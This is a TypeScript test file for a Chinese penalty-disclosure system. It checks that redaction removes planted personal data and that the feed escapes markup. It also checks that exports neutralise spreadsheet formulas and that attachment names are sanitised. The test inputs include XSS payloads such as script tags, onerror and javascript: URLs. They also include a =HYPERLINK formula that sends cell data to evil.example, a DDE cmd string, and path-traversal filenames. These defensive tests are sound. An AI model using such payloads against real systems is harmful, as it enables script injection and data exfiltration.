// Issue 14, everything that reaches the public, on both engines:
// - 4a/4b (000 §10): an ID number (valid GB 11643 check character), a mobile number and a home address planted in
//   every free field of a case (cause, party name, legal representative, party address and phone, summary, facts,
//   basis, result, the remedy authority and the change notice) go through the editor's redaction and a second
//   person's publication; none of them is then in the portal record, the open data JSON and CSV, the Atom feed or
//   the 双公示 CSV and Excel export. A redaction confirmed before the representative was a field goes back to the editor.
// - 8: the Atom feed carries text only (type="text", escaped), whatever markup the texts hold.
// - low: every CSV and XLSX export neutralises cells that could start a formula (OWASP), numbers stay numbers, and the
//   registry's export → import round trip keeps the value; a correction attachment is named after its detected type.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { describeApp, login, type Session } from '../support/app.ts';
import { assertError, minutesAgo } from '../support/http.ts';
import { idNumberCheckChar } from '../../src/server/platform/codes.ts';
import { attachmentName } from '../../src/server/modules/disclosure/correction.service.ts';
import { XLSX_TYPE } from '../../src/server/modules/registry/record.xlsx.ts';

type Proposal = Record<string, { text: string; findings: { kind: string; start: number; end: number }[] }>;

/** RFC 4180 CSV into rows of cells (quoted cells, doubled quotes, CRLF or LF), BOM dropped. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\ufeff/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && s[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** CSV rows as records by header. */
const csvRecords = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
};

/** Every cell of every sheet of a workbook: [value, type] with the header row's name. */
async function workbookRecords(buffer: Buffer): Promise<Record<string, ExcelJS.CellValue>[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  const ws = wb.worksheets[0]!;
  const header = (ws.getRow(1).values as string[]).slice(1);
  const out: Record<string, ExcelJS.CellValue>[] = [];
  ws.eachRow((row, n) => {
    if (n > 1) out.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value])));
  });
  return out;
}

const id18 = (first17: string) => first17 + idNumberCheckChar(first17)!;

describeApp('issue 14: nothing personal, no markup, no formula reaches the public', (h) => {
  let officer: Session, unithead: Session, head: Session, editor: Session;
  let certificates = false;
  const anon = (url: string) => h.app.inject({ method: 'GET', url });

  /** A penalty case from opening to decision; returns its disclosure record. */
  async function decide(
    party: Record<string, unknown>,
    t: { cause: string; summary?: string; facts: string; basis: string; decision: string },
  ) {
    [officer, unithead, head, editor] = await Promise.all(['officer', 'unithead', 'head', 'editor'].map((u) => login(h.app, u)));
    if (!certificates) {
      for (const [name, cert] of [
        ['张执法', 'NMSEC0001'],
        ['赵执法', 'NMSEC0002'],
      ]) {
        const r = await editor.request('POST', '/api/v1/registry/officer', {
          data: {
            name,
            gender: '男',
            post: '队员',
            certificateNumber: cert,
            categories: ['文化市场'],
            area: '奈曼旗',
            validFrom: '2020-01-01',
            validTo: '2099-12-31',
            status: 'valid',
          },
        });
        assert.equal(
          (await head.request('POST', `/api/v1/registry/versions/${r.json().versionId}/decision`, { decision: 'approved' })).statusCode,
          200,
        );
      }
      certificates = true;
    }
    const c = await officer.request('POST', '/api/v1/cases', {
      actCategory: 'penalty',
      origin: 'exOfficio',
      cause: t.cause,
      field: '文化市场',
      party,
      ...(t.summary ? { summary: t.summary } : {}),
    });
    assert.equal(c.statusCode, 201, c.body);
    const caseId = c.json().id as string;
    for (const [s, body] of [
      [unithead, { type: 'opening', content: { approved: true, opinion: '同意立案' } }],
      [
        officer,
        { type: 'inquiry', officers: ['NMSEC0001', 'NMSEC0002'], certificateShown: true, content: { person: '刘某', transcript: '问答' } },
      ],
      [officer, { type: 'rightsNotice', content: { facts: t.facts, basis: t.basis, proposed: '警告', hearingEligible: false } }],
      [officer, { type: 'statementDefence', content: { waived: true, hearingRequested: false } }],
      [
        head,
        {
          type: 'decision',
          occurredAt: minutesAgo(30),
          content: { decision: t.decision, basis: t.basis, fineFen: 500_000, remedy: '六十日内申请复议' },
        },
      ],
    ] as const) {
      const r = await s.request('POST', `/api/v1/cases/${caseId}/acts`, { occurredAt: minutesAgo(40), ...body });
      assert.equal(r.statusCode, 201, r.body);
    }
    const mine = (
      (await editor.request('GET', '/api/v1/disclosures?pageSize=500')).json().items as { id: string; caseId: string }[]
    ).filter((d) => d.caseId === caseId);
    assert.equal(mine.length, 1);
    return { caseId, id: mine[0]!.id };
  }

  const detail = async (id: string) => {
    const r = await editor.request('GET', `/api/v1/disclosures/${id}`);
    assert.equal(r.statusCode, 200, r.body);
    return r.json() as { proposal: Proposal; agencyId: string; state: string };
  };
  /** Masks exactly what the detectors found, in every field the editor is shown. */
  const maskAll = (p: Proposal) => ({
    fields: Object.fromEntries(Object.entries(p).map(([f, x]) => [f, { masks: x.findings.map(({ start, end }) => ({ start, end })) }])),
  });

  async function prepareAndPublish(id: string) {
    const prepared = await editor.request('POST', `/api/v1/disclosures/${id}/prepare`, maskAll((await detail(id)).proposal));
    assert.equal(prepared.statusCode, 200, prepared.body);
    const published = await head.request('POST', `/api/v1/disclosures/${id}/publish`);
    assert.equal(published.statusCode, 200, published.body);
  }

  /** Every public output that can carry the record: portal JSON and record page, open data CSV, feed, 双公示 CSV and XLSX. */
  async function publicOutputs(id: string, agencyId: string, keyword: string): Promise<Record<string, string>> {
    const q = encodeURIComponent(keyword);
    const outputs: Record<string, string> = {
      'portal search (JSON)': (await anon(`/api/v1/public/decisions?q=${q}`)).body,
      'open data (JSON, by agency)': (await anon(`/api/v1/public/decisions?agencyId=${agencyId}&limit=200`)).body,
      'record page': (await anon(`/api/v1/public/decisions/${id}`)).body,
      'open data CSV': (await anon(`/api/v1/public/decisions?q=${q}&format=csv`)).body,
      'Atom feed': (await anon(`/api/v1/public/agencies/${agencyId}/decisions.atom`)).body,
      '双公示 CSV': (await head.request('GET', '/api/v1/disclosures/double-publicity?kind=penalty&format=csv')).body,
      '双公示 XLSX': JSON.stringify(
        await workbookRecords((await head.request('GET', '/api/v1/disclosures/double-publicity?kind=penalty&format=xlsx')).rawPayload),
      ),
    };
    return outputs;
  }

  test('000 §10: an ID number, a mobile and a home address planted in every free field reach no public output', async () => {
    // one set of values per field, so that a leak names its field
    const FIELDS = [
      'cause',
      'partyName',
      'representative',
      'partyAddress',
      'partyPhone',
      'summary',
      'facts',
      'basis',
      'decision',
      'authority',
      'notice',
    ] as const;
    const planted = Object.fromEntries(
      FIELDS.map((f, i) => {
        const n = String(10 + i);
        return [
          f,
          { id: id18(`15052519900307${n}1`), phone: `138000000${n}`, street: `幸福路${n}号`, address: `奈曼旗大沁他拉镇幸福路${n}号` },
        ];
      }),
    ) as Record<(typeof FIELDS)[number], { id: string; phone: string; street: string; address: string }>;
    const all = (f: (typeof FIELDS)[number], sep = '，') => `${planted[f].id}${sep}${planted[f].phone}${sep}住${planted[f].address}`;
    const secrets = Object.entries(planted).flatMap(
      ([f, p]) =>
        [
          [f, p.id],
          [f, p.phone],
          [f, p.street],
        ] as const,
    );

    for (const kind of ['organisation', 'person'] as const) {
      const personId = id18('15052519850615123');
      const party =
        kind === 'organisation'
          ? {
              kind,
              name: `奈曼旗飞鸟网吧（${all('partyName')}）`,
              representative: `李四，${all('representative')}`,
              address: `住${planted.partyAddress.address}，${planted.partyAddress.id}`,
              phone: planted.partyPhone.phone,
            }
          : {
              kind,
              name: '王飞鸟',
              idNumber: personId,
              address: `住${planted.partyAddress.address}，${planted.partyAddress.id}`,
              phone: planted.partyPhone.phone,
            };
      assert.ok(kind === 'person' || party.representative!.length <= 50, 'the representative fits its 50 characters');
      const { caseId, id } = await decide(party, {
        cause: `飞鸟${kind === 'organisation' ? '网吧' : '个人'}违规经营案，${all('cause')}`,
        summary: `群众举报，${all('summary')}`,
        facts: `${kind === 'person' ? '当事人王飞鸟' : '当事人员工李某'}，男，1985年6月15日出生，身份证号码${planted.facts.id}，联系电话${planted.facts.phone}，住${planted.facts.address}，未核对上网消费者身份证件。`,
        basis: `《互联网上网服务营业场所管理条例》第三十一条（举报人${all('basis')}）`,
        decision: `警告，并处罚款人民币五千元；送达地址：${planted.decision.address}，联系人${planted.decision.id}，电话${planted.decision.phone}`,
      });
      const d = await detail(id);
      assert.equal(d.state, 'pending');
      // the detectors found all three in every free field the editor is shown (the person's name is masked as a whole)
      const want =
        kind === 'organisation'
          ? ['caseName', 'partyName', 'representative', 'facts', 'basis', 'result']
          : ['caseName', 'facts', 'basis', 'result'];
      for (const f of want)
        for (const k of ['idNumber', 'phone', 'address'])
          assert.ok(
            d.proposal[f]!.findings.some((x) => x.kind === k),
            `${kind}: ${k} found in ${f}: ${JSON.stringify(d.proposal[f])}`,
          );
      if (kind === 'person') assert.equal(d.proposal.partyName!.text, '王某某');

      // the representative is part of the confirmation: leaving it unmasked is refused, naming the field
      if (kind === 'organisation') {
        const { representative: _left, ...rest } = maskAll(d.proposal).fields;
        const leak = await editor.request('POST', `/api/v1/disclosures/${id}/prepare`, { fields: rest });
        assertError(leak, 422, 'REDACTION_INCOMPLETE');
        assert.deepEqual([...new Set(leak.json().error.details.findings.map((x: { field: string }) => x.field))], ['representative']);
      }
      await prepareAndPublish(id);

      const page = (await anon(`/api/v1/public/decisions/${id}`)).json();
      assert.equal(page.status, 'published');
      if (kind === 'organisation')
        assert.match(page.decision.party.representative, /^李四，\*+，\*+，住\*+$/, 'the representative is published, masked');
      const outputs = await publicOutputs(id, d.agencyId, '飞鸟');
      assert.ok(outputs['open data CSV']!.includes(id) && outputs['Atom feed']!.includes(id), 'the record is in the outputs');
      assert.ok(outputs['双公示 CSV']!.includes(page.decision.documentNumber), 'the record is in the 双公示 export');
      for (const [output, body] of Object.entries(outputs))
        for (const [field, secret] of secrets) assert.ok(!body.includes(secret), `${kind}: ${field}'s ${secret} is in the ${output}`);
      if (kind === 'person')
        for (const body of Object.values(outputs))
          assert.ok(!body.includes(personId) && !body.includes('王飞鸟'), 'the person is named 王某某 only');

      // overturned on reconsideration: the authority (typed, shown at once) and the change notice are masked too
      const remedy = await officer.request('POST', `/api/v1/cases/${caseId}/acts`, {
        type: 'remedyOutcome',
        occurredAt: minutesAgo(5),
        content: {
          proceeding: 'reconsideration',
          outcome: 'revoked',
          decidedOn: page.decision.decidedOn,
          authority: `奈曼旗人民政府（经办人${all('authority')}）`,
          explanation: '撤销',
        },
      });
      assert.equal(remedy.statusCode, 201, remedy.body);
      assert.equal(
        (
          await editor.request('POST', `/api/v1/disclosures/${id}/change-notice`, {
            explanation: `原决定经行政复议撤销，咨询：${all('notice')}`,
          })
        ).statusCode,
        200,
      );
      const gone = await anon(`/api/v1/public/decisions/${id}`);
      assert.equal(gone.json().status, 'withdrawn');
      assert.match(gone.json().remedy.authority, /^奈曼旗人民政府/);
      const feed = (await anon(`/api/v1/public/agencies/${d.agencyId}/decisions.atom`)).body;
      assert.ok(feed.includes('原决定经行政复议撤销'));
      for (const body of [gone.body, feed])
        for (const [field, secret] of secrets)
          assert.ok(!body.includes(secret), `${kind}: ${field}'s ${secret} is public after withdrawal`);
    }
  });

  test('a redaction confirmed before the representative was a field goes back to the editor instead of out', async () => {
    const { id } = await decide(
      { kind: 'organisation', name: '奈曼旗旧确认网吧', representative: '赵六，13912345678' },
      {
        cause: '旧确认网吧违规经营案',
        facts: '当事人未核对上网消费者身份证件',
        basis: '条例第三十一条',
        decision: '警告',
      },
    );
    assert.equal((await editor.request('POST', `/api/v1/disclosures/${id}/prepare`, maskAll((await detail(id)).proposal))).statusCode, 200);
    // as the code before issue 14 stored it: no confirmation for the representative, and the raw value to publish
    await sql`update disclosures set prepared = jsonb_set(prepared #- '{fields,representative}', '{published,party,representative}', '"赵六，13912345678"'::jsonb) where id = ${id}`.execute(
      h.db,
    );
    const refused = await head.request('POST', `/api/v1/disclosures/${id}/publish`);
    assertError(refused, 422, 'REDACTION_INCOMPLETE');
    assert.equal(refused.json().error.details.findings[0].field, 'representative');
    assert.equal((await detail(id)).state, 'prepared', 'nothing was published');
    assert.equal((await anon(`/api/v1/public/decisions/${id}`)).statusCode, 404);
    assert.ok(!(await anon(`/api/v1/public/decisions?q=${encodeURIComponent('旧确认')}`)).body.includes('13912345678'));
    // confirmed again by the editor, it goes out masked
    await prepareAndPublish(id);
    assert.equal((await anon(`/api/v1/public/decisions/${id}`)).json().decision.party.representative, '赵六，***********');
  });

  test('the Atom feed is text only: markup typed into a decision arrives escaped, never as HTML', async () => {
    const { id } = await decide(
      { kind: 'organisation', name: '奈曼旗]]><script>alert("name")</script>网吧', representative: '<b>王五</b>' },
      {
        cause: '<script>alert(document.cookie)</script>标签网吧违规经营案',
        facts: '<iframe src=javascript:alert(1)></iframe>当事人未核对身份证件 & 未登记',
        basis: '<a href="javascript:alert(2)">条例</a>第三十一条',
        decision: '<img src=x onerror=alert(3)>警告',
      },
    );
    await prepareAndPublish(id);
    const { agencyId } = await detail(id);
    const feed = await anon(`/api/v1/public/agencies/${agencyId}/decisions.atom`);
    assert.equal(feed.statusCode, 200);
    assert.match(String(feed.headers['content-type']), /^application\/atom\+xml/);
    const body = feed.body;
    assert.ok(!/type="(x?html)"/.test(body), 'no HTML or XHTML text constructs');
    assert.ok(!/<script|<iframe|<img|<a |<b>|CDATA/i.test(body), body);
    for (const [tag] of body.matchAll(/<(title|summary|content|rights)\b[^>]*>/g)) assert.match(tag, /type="text"/, tag);
    assert.ok(
      body.includes('&lt;script&gt;alert(document.cookie)&lt;/script&gt;标签网吧违规经营案'),
      'the title is the text as typed, escaped',
    );
    assert.ok(body.includes('&lt;iframe src=javascript:alert(1)&gt;&lt;/iframe&gt;当事人未核对身份证件 &amp; 未登记'));
    assert.ok(body.includes('奈曼旗]]&gt;&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;网吧'));
  });

  test('every CSV and XLSX export neutralises formulas (OWASP); numbers stay numbers; the registry round trip keeps the value', async () => {
    const hostile = {
      cause: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
      name: '+奈曼旗公式网吧',
      representative: '@SUM(1+1)',
      facts: "-2+3+cmd|' /c calc'!A0",
      basis: '＝1+1（全角等号）',
      decision: '=1+1',
    };
    const { id } = await decide({ kind: 'organisation', name: hostile.name, representative: hostile.representative }, hostile);
    await prepareAndPublish(id);

    // open data CSV
    const open = csvRecords((await anon(`/api/v1/public/decisions?q=${encodeURIComponent('公式网吧')}&format=csv`)).body).find(
      (r) => r['编号'] === id,
    )!;
    assert.equal(open['案件名称'], `'${hostile.cause}`);
    assert.equal(open['当事人'], `'${hostile.name}`);
    assert.equal(open['法定代表人'], `'${hostile.representative}`);
    assert.equal(open['主要事实'], `'${hostile.facts}`);
    assert.equal(open['执法依据'], `'${hostile.basis}`);
    assert.equal(open['处理结果'], `'${hostile.decision}`);
    assert.equal(open['罚款金额（元）'], '5000', 'a number is written as a number');

    // 双公示 CSV and Excel
    const dp = csvRecords((await head.request('GET', '/api/v1/disclosures/double-publicity?kind=penalty&format=csv')).body).find(
      (r) => r['行政相对人名称'] === `'${hostile.name}`,
    );
    assert.ok(dp, 'the party name is neutralised');
    assert.equal(dp['法定代表人'], `'${hostile.representative}`);
    assert.equal(dp['违法行为类型'], `'${hostile.cause}`);
    assert.equal(dp['违法事实'], `'${hostile.facts}`);
    assert.equal(dp['处罚内容'], `'${hostile.decision}`);
    assert.equal(dp['罚款金额（万元）'], '0.5');
    const xlsx = await head.request('GET', '/api/v1/disclosures/double-publicity?kind=penalty&format=xlsx');
    const row = (await workbookRecords(xlsx.rawPayload)).find((r) => r['行政相对人名称'] === `'${hostile.name}`);
    assert.ok(row, 'the party name is neutralised in the workbook');
    assert.equal(row['违法行为类型'], `'${hostile.cause}`);
    assert.equal(row['法定代表人'], `'${hostile.representative}`);
    assert.equal(row['罚款金额（万元）'], 0.5, 'the amount is a number cell');

    // registry export.xlsx: neutralised, and its re-import reads the value as it was (nothing changed)
    const headers = ['事项编码', '事项名称*', '执法行为类别*', '实施依据*', '实施主体*', '承办机构*'];
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('事项');
    ws.addRow(headers);
    ws.addRow(['GS-001', '=HYPERLINK("http://evil.example","事项")', '行政处罚', '-1+2', '@奈曼旗文化和旅游局', '+综合执法大队']);
    const imported = await editor.request('POST', '/api/v1/registry/enforcementItem/import', Buffer.from(await wb.xlsx.writeBuffer()), {
      'content-type': XLSX_TYPE,
    });
    assert.equal(imported.statusCode, 201, imported.body);
    for (const r of (await head.request('GET', '/api/v1/registry/reviews?kind=enforcementItem')).json().items)
      assert.equal(
        (await head.request('POST', `/api/v1/registry/versions/${r.versionId}/decision`, { decision: 'approved' })).statusCode,
        200,
      );
    const exported = await editor.request('GET', '/api/v1/registry/enforcementItem/export.xlsx');
    assert.equal(exported.statusCode, 200);
    const item = (await workbookRecords(exported.rawPayload)).find((r) => r['事项编码'] === 'GS-001')!;
    assert.equal(item['事项名称*'], `'=HYPERLINK("http://evil.example","事项")`);
    assert.equal(item['实施依据*'], "'-1+2");
    assert.equal(item['实施主体*'], "'@奈曼旗文化和旅游局");
    assert.equal(item['承办机构*'], "'+综合执法大队");
    const again = await editor.request('POST', '/api/v1/registry/enforcementItem/import', exported.rawPayload, {
      'content-type': XLSX_TYPE,
    });
    assert.equal(again.statusCode, 201, again.body);
    assert.deepEqual([again.json().revised, again.json().created], [0, 0], 'the exported values read back unchanged');
    const template = await editor.request('GET', '/api/v1/registry/officer/template.xlsx');
    assert.equal(template.statusCode, 200);
  });

  test('a correction attachment is stored and served under the extension of its detected type', async () => {
    const { id } = await decide(
      { kind: 'organisation', name: '奈曼旗附件网吧' },
      { cause: '附件网吧违规经营案', facts: '当事人未核对身份证件', basis: '条例第三十一条', decision: '警告' },
    );
    await prepareAndPublish(id);
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
    const attach = (body: Buffer, type: string, name: string) =>
      h.app.inject({
        method: 'POST',
        url: `/api/v1/public/decisions/${id}/correction-attachments`,
        payload: body,
        headers: { 'content-type': type, 'x-file-name': encodeURIComponent(name) },
      });
    const a = await attach(pdf, 'application/pdf', '证据.html');
    assert.equal(a.statusCode, 201, a.body);
    assert.deepEqual([a.json().name, a.json().contentType], ['证据.pdf', 'application/pdf']);
    const b = await attach(png, 'image/png', 'photo.jpeg');
    assert.deepEqual([b.json().name, b.json().contentType], ['photo.png', 'image/png']);
    const filed = await h.app.inject({
      method: 'POST',
      url: `/api/v1/public/decisions/${id}/corrections`,
      payload: { name: '刘某', contact: '13900000000', content: '有误', attachmentIds: [a.json().id, b.json().id] },
    });
    assert.equal(filed.statusCode, 201, filed.body);
    const c = (
      (await editor.request('GET', '/api/v1/disclosure-corrections?state=open')).json().items as {
        id: string;
        code: string;
        attachments: { id: string; name: string }[];
      }[]
    ).find((x) => x.code === filed.json().code)!;
    assert.deepEqual(c.attachments.map((x) => x.name).sort(), ['photo.png', '证据.pdf']);
    const file = await editor.request('GET', `/api/v1/disclosure-corrections/${c.id}/attachments/${a.json().id}`);
    assert.equal(file.statusCode, 200);
    assert.equal(file.headers['content-type'], 'application/pdf');
    assert.equal(file.headers['content-disposition'], `attachment; filename*=UTF-8''${encodeURIComponent('证据.pdf')}`);
  });
});

test("attachment names: the extension is the detected type's, whatever the sender called the file", () => {
  const table: [raw: string, mime: string, name: string][] = [
    ['证据.html', 'application/pdf', '证据.pdf'],
    ['证据.PDF', 'application/pdf', '证据.PDF'],
    ['证据', 'application/pdf', '证据.pdf'],
    ['report.pdf.html', 'application/pdf', 'report.pdf.pdf'],
    ['photo.jpeg', 'image/jpeg', 'photo.jpeg'],
    ['photo.jpg', 'image/png', 'photo.png'],
    ['scan.svg', 'image/webp', 'scan.webp'],
    ['.htaccess', 'image/png', 'htaccess.png'],
    ['../../x.html', 'application/pdf', 'x.pdf'],
    ['', 'image/png', '附件.png'],
    [`${'长'.repeat(120)}.html`, 'application/pdf', `${'长'.repeat(95)}.pdf`], // the name's last 100 characters
  ];
  for (const [raw, mime, name] of table) assert.equal(attachmentName(raw, mime), name, raw);
});
